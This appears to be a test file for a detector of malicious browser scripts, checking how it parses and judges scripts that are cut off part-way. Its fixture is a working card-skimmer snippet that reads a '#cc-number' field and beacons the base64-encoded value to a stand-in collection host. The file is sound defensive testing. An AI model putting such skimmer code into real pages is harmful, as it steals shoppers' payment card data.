import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { closedPrefixes } from '#detection/closed-prefix.ts'
import { judgeScript } from '#detection/index.ts'
import { parseProgram } from '#program/index.ts'

const code = `(function(){var f=document.querySelector('#cc-number');
f.onchange=function(){var d=f.value.replace(/[;"'\\/]/g,'');/* a } comment */new Image().src='https://collect.stranger-shop.example/?d='+btoa(d);};
var later=[1,2,{a:"}"}];console.log(\`x}\`);function more(a){return a/2;}more(later);})();`

describe('a program whose end is missing', () => {
  it('is closed after its last whole statement, wherever it was cut', () => {
    const atFirst = code.indexOf(';') + 1
    for (let cut = atFirst + 1; cut < code.length; cut += 7) {
      const [first] = closedPrefixes(code.slice(0, cut))
      expect(first && parseProgram(first), code.slice(0, cut)).toBeTruthy()
      expect(code.startsWith(first!.replace(/[)}\]]*$/, ''))).toBe(true)
    }
  })

  it('is judged by what is there', () => {
    const judged = judgeScript(code.slice(0, code.indexOf('console')))
    expect(judged).toMatchObject({ verdict: 'malicious', parsed: 'partly', ended: false })
  })

  it('gives nothing where no statement ends, and never throws', () => {
    expect(closedPrefixes('var a = "')).toEqual([])
    expect(closedPrefixes('')).toEqual([])
    fc.assert(
      fc.property(fc.string({ maxLength: 200 }), (text) => void closedPrefixes(text)),
      { numRuns: 200 },
    )
  })
})
